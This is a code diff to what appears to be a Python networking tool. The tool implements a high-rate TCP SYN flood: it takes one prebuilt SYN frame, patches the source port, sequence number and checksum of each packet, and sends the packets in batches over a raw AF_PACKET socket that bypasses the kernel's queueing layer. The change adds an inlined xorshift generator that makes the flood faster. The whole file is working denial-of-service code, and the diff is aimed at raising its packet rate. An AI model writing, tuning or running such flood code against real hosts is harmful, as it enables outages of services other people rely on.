@@ -1,6 +1,6 @@
 """A bounded SYN flood from one pre-built frame: per packet only the source port, the ISN and the TCP
-checksum change, patched with ``struct`` and sent in batches with one ``sendmmsg(2)`` per batch on an
-AF_PACKET socket that bypasses the qdisc layer.
+checksum change, patched with ``struct`` (``SynTemplate.patch_batch``) and sent in batches with one
+``sendmmsg(2)`` per batch on an AF_PACKET socket that bypasses the qdisc layer.
 
 The TCP checksum is updated, not recomputed: with 2**16 ≡ 1 (mod 0xffff) the one's-complement sum
 (RFC 1071) of a field is congruent to the field read as an integer, so the new checksum is
@@ -80,6 +80,28 @@ class SynTemplate:
     def patch(self, buf: bytearray | memoryview, offset: int, sport: int, seq: int) -> None:
         _PORTS_SEQ.pack_into(buf, offset + self._off_sport, sport, self.dport, seq)
         _SUM.pack_into(buf, offset + self._off_sum, (self._c0 - sport - seq) % _M)
+
+    def patch_batch(self, buf: bytearray, n: int, state: int, lo: int, width: int) -> int:
+        """Frames 0..n-1 of ``buf`` (``size`` bytes apart) patched with source ports in [lo, lo + width)
+        and ISNs drawn from xorshift32 (Marsaglia 2003: the state is never 0); returns the new state.
+        A generator in the loop rather than a call to random per packet: this module is compiled
+        (rawtcp/compiled.py), and the loop is the flood's share of the CPU beside the kernel's."""
+        pack_ports_seq, pack_sum = _PORTS_SEQ.pack_into, _SUM.pack_into
+        off_sport, off_sum, dport, c0, size = self._off_sport, self._off_sum, self.dport, self._c0, self.size
+        x = state
+        for i in range(n):
+            x ^= (x << 13) & 0xFFFFFFFF
+            x ^= x >> 17
+            x ^= (x << 5) & 0xFFFFFFFF
+            seq = x
+            x ^= (x << 13) & 0xFFFFFFFF
+            x ^= x >> 17
+            x ^= (x << 5) & 0xFFFFFFFF
+            sport = lo + x % width
+            offset = i * size
+            pack_ports_seq(buf, offset + off_sport, sport, dport, seq)
+            pack_sum(buf, offset + off_sum, (c0 - sport - seq) % _M)
+        return x
 
     def build(self, sport: int, seq: int) -> bytes:
         buf = bytearray(self.frame)
@@ -166,10 +188,9 @@ def flood_syn(dst_ip: str, dport: int, *, count: int | None = None, duration: fl
         if on_start is not None:
             on_start({"src": path.src_ip, "dst": dst_ip, "dport": dport, "iface": path.ifname, "count": count,
                       "duration": duration, "rate": rate})
-        buf, size, patch = sender.buf, tmpl.size, tmpl.patch
-        getrandbits = rng.getrandbits
+        buf, patch_batch = sender.buf, tmpl.patch_batch
+        state = rng.getrandbits(32) | 1  # xorshift's state is never 0
         lo, width = SPORT_RANGE[0], SPORT_RANGE[1] - SPORT_RANGE[0] + 1
-        offsets = range(0, size * batch, size)
         sent = 0
         t0 = clock()
         end = t0 + span
@@ -185,9 +206,7 @@ def flood_syn(dst_ip: str, dport: int, *, count: int | None = None, duration: fl
                     time.sleep(min(due - now, end - now))
                     continue
             n = min(batch, limit - sent)
-            for off in offsets[:n]:
-                r = getrandbits(48)
-                patch(buf, off, lo + (r >> 32) % width, r & 0xFFFFFFFF)
+            state = patch_batch(buf, n, state, lo, width)
             sent += sender.send(n)
         elapsed = clock() - t0
     return FloodResult(sent, elapsed, path.src_ip, dst_ip, dport, path.ifname, stopped_by)
